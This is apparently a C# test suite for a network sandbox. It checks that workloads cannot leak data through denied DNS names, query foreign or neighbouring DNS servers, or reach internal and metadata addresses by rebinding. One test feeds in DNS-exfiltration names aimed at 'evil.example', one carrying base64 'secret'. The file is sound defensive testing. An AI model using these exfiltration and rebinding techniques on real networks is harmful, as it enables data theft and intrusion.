using System.Net;
using Netfence.KernelTesting;
using Netfence.Sandbox.Lab;
using Netfence.Sandbox.Probing;

namespace Netfence.Attacks.KernelTests;

/// <summary>
/// Pitfalls 7, 18 and 19 and foreign resolvers, from inside a cgroup and a VM through a real netfenced: names are
/// judged before anything is forwarded (the zone's query log is the evidence), the only DNS server a workload can
/// reach is its own attachment's, and an allowed name cannot open an internal address.
/// </summary>
[Collection("attack lab")]
public sealed class DnsBypassTests(AttackLab lab)
{
    static Task<ProbeResult> AskAsync(LabWorkload w, string name, IPEndPoint server) =>
        w.Agent.AttemptAsync(new ProbeRequest("udp", name, null, LocalInternet.UdpEchoPort, server.ToString(), Evidence.Token()));

    [KernelTheory]
    [InlineData("cgroup")]
    [InlineData("vm")]
    public async Task Denied_names_carrying_data_are_refused_without_reaching_the_upstream(string kind)
    {
        var w = lab.Attacker(kind);
        // The control: an allowed (non-existent) name is forwarded, so the zone's log does record what reaches it.
        var control = Evidence.Token();
        var forwarded = await AskAsync(w, $"{control}.probe.allowed.example", w.Dns);
        Assert.True(forwarded.Rcode is "NXDOMAIN", $"the allowed control name was not forwarded: {forwarded}");
        Assert.True(Evidence.UpstreamAsked(lab.Internet, control), "the zone's log does not show the forwarded control name");

        var token = Evidence.Token();
        foreach (var name in new[] { $"{token}.denied.example", $"{token}-c2VjcmV0.evil.example", $"{token}.allowed.example.evil.example", $"{token}.example" })
        {
            var result = await AskAsync(w, name, w.Dns);
            Assert.True(result is { Outcome: ProbeOutcome.DnsError, Rcode: "REFUSED" }, $"{name} from {w}: {result}");
        }
        Evidence.AssertUpstreamNeverAsked(lab.Internet, token, $"exfiltration through denied names from {w}");
    }

    [KernelTheory]
    [InlineData("cgroup")]
    [InlineData("vm")]
    public async Task A_query_to_a_foreign_dns_server_never_reaches_it(string kind)
    {
        var w = lab.Attacker(kind);
        var token = Evidence.Token();
        // The zone is the daemon's own upstream: routed, up and answering, only not for the workload.
        var result = await AskAsync(w, $"{token}.allowed.example", lab.Internet.Dns.Endpoint);
        Assert.Equal(kind == "cgroup" ? ProbeOutcome.Denied : ProbeOutcome.DnsTimeout, result.Outcome);
        Evidence.AssertUpstreamNeverAsked(lab.Internet, token, $"a direct query to the zone from {w}");
    }

    [KernelTheory]
    [InlineData("cgroup")]
    [InlineData("vm")]
    public async Task Another_attachments_dns_server_cannot_be_used(string kind)
    {
        var w = lab.Attacker(kind);
        var neighbour = lab.Neighbour(kind);
        // The control: the neighbour's own server forwards its allowed names (other.example's subdomains).
        var control = Evidence.Token();
        var own = await AskAsync(neighbour, $"{control}.other.example", neighbour.Dns);
        Assert.True(own.Rcode is "NXDOMAIN", $"{neighbour}'s own query was not forwarded: {own}");
        Assert.True(Evidence.UpstreamAsked(lab.Internet, control), "the zone's log does not show the neighbour's query");

        // The attacker may not resolve other.example itself; through the neighbour's server it would.
        var token = Evidence.Token();
        var result = await AskAsync(w, $"{token}.other.example", neighbour.Dns);
        Assert.Equal(kind == "cgroup" ? ProbeOutcome.Denied : ProbeOutcome.DnsTimeout, result.Outcome);
        Evidence.AssertUpstreamNeverAsked(lab.Internet, token, $"{w} through {neighbour}'s DNS server {neighbour.Dns}");
    }

    [KernelTheory]
    [InlineData("cgroup", "internal.allowed.example")]
    [InlineData("cgroup", "metadata.allowed.example")]
    [InlineData("vm", "internal.allowed.example")]
    [InlineData("vm", "metadata.allowed.example")]
    public async Task An_allowed_name_answering_with_an_internal_address_opens_nothing(string kind, string name)
    {
        var w = lab.Attacker(kind);
        var target = name.StartsWith("internal.", StringComparison.Ordinal) ? AttackLab.RebindTarget : AttackLab.Metadata;
        var answer = await AskAsync(w, name, w.Dns);
        Assert.True(lab.Internet.Dns.WasAsked(name), $"{name} was not forwarded: the test would prove nothing");
        Assert.DoesNotContain(target.ToString(), answer.Addresses);

        // A real server listens on the target: the neighbour whose policy allows its CIDR reaches it, the attacker not.
        await InternalHostChecks.AssertOnlyExplicitlyAllowedReachAsync(lab, kind, target, $"{name}'s internal address");
    }
}
